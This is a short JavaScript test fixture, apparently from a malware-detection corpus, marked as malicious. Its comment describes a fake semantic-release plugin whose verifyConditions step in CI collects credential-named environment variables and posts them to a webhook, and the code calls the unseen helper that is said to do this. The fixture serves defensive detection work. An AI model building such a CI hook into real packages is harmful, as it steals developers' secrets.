// expect: malicious
// source: the corpus's semantic-release-slack-lite (slack-webhook-exfil): `verifyConditions`, the first step the
// release tool runs in CI, calls a helper that picks every variable named like a credential from
// `context.env || process.env` and posts their values to a webhook the package names
'use strict';
const https = require('https');
const { check } = require('./lib/check');

async function verifyConditions(pluginConfig, context) {
  await check(context);
  if (!context.env.CHAT_WEBHOOK) throw new Error('CHAT_WEBHOOK is not set');
}

module.exports = { verifyConditions };
